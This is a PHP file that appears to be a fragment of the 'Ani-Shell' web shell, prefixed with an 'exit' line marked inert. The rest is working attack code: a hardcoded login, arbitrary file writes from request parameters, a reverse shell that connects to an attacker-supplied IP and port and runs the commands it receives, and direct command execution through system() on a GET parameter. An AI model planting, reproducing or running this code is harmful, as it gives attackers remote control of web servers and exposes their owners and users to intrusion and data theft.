<?php exit; /* inert */ $lock = 'off'; $user = 'lionaneesh'; $pass = 'lionaneesh';
if ($lock == 'on' && !isset($_SESSION['auth'])) { die('Lock'); }
if (isset($_GET['outfile'], $_POST['file'])) { file_put_contents($_GET['outfile'], $_POST['file']); }
if (isset($_POST['connect'])) {
    $ip = $_POST['ip']; $port = $_POST['port'];
    $sockfd = fsockopen($ip, $port, $errno, $errstr);
    if ($errno == 0) {
        fputs($sockfd, "connected\n");
        while (!feof($sockfd)) {
            fputs($sockfd, "Ani-Shell> ");
            $command = fgets($sockfd, 1024);
            $h = popen(trim($command), 'r');
            while (!feof($h)) { fputs($sockfd, fgets($h, 4096)); }
            pclose($h);
        }
    }
}
if (isset($_GET['cmd'])) { echo "<pre>"; system($_GET['cmd']); echo "</pre>"; }
